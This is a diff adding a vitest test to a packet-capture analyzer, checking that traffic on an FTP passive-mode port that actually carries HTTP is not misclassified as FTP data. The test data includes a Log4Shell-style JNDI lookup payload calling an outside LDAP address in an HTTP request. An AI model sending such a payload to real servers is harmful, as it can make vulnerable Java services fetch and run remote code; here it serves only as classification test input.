@@ -2,8 +2,13 @@
 import { describe, expect, test } from 'vitest';
 import { openCaptureFile } from '../../src/analysis/captureFile.node.ts';
 import { EVERYTHING } from '../../src/analysis/engineApi.ts';
+import { selectFrames } from '../../src/analysis/filtering.ts';
 import { readFields, wantedFields } from '../../src/analysis/readFields.ts';
+import { bufferSource } from '../../src/pcap/byteSource.ts';
+import { pcap } from '../../src/pcap/formats/pcap.ts';
 import { analyzeCapture, sample } from '../support/analyzeCapture.ts';
+import { PacketBuilder } from '../support/packetBuilder.ts';
+import { bytesOf } from '../support/streamDriver.ts';
 import { withSession } from '../support/withSession.ts';
 
 describe('data connections of FTP', () => {
@@ -31,6 +36,31 @@ describe('data connections of FTP', () => {
     ]);
     // Of these tshark names frame 128, the handshake, and no method.
     expect(rows.filter((row) => row.includes('EPRT'))).toEqual([132, 134, 136, 138, 140, 142, 144].map((frame) => `${frame} 121 EPRT TYPE I`));
+  });
+
+  test('are not what somebody announces and then speaks another protocol on', async () => {
+    const frames = async (said: string, filter: string): Promise<boolean> => {
+      const builder = new PacketBuilder(),
+        segment = (port: number, fromClient: boolean, payload: string): void => {
+          builder.tcp({
+            from: fromClient ? '10.0.0.1' : '10.0.0.2',
+            to: fromClient ? '10.0.0.2' : '10.0.0.1',
+            sourcePort: fromClient ? 5000 + (port & 1) : port,
+            destinationPort: fromClient ? port : 5000 + (port & 1),
+            flags: 0x18,
+            sequence: 1,
+            payload: bytesOf(payload),
+          });
+        };
+      segment(21, false, '227 Entering Passive Mode (10,0,0,2,31,144)\r\n');
+      segment(8080, true, said);
+      return (await selectFrames(bufferSource(builder.bytes()), pcap, filter, undefined, {})).has(2);
+    };
+    const ATTACK = 'GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: a\r\n\r\n';
+    expect(await frames(ATTACK, 'http.request')).toBe(true);
+    expect(await frames(ATTACK, 'ftp-data')).toBe(false);
+    expect(await frames('hi\n', 'ftp-data')).toBe(true);
+    expect(await frames('\0\x01\x02 a file of any kind', 'ftp-data')).toBe(true);
   });
 
   test('are told in the list and in the report', async () => {
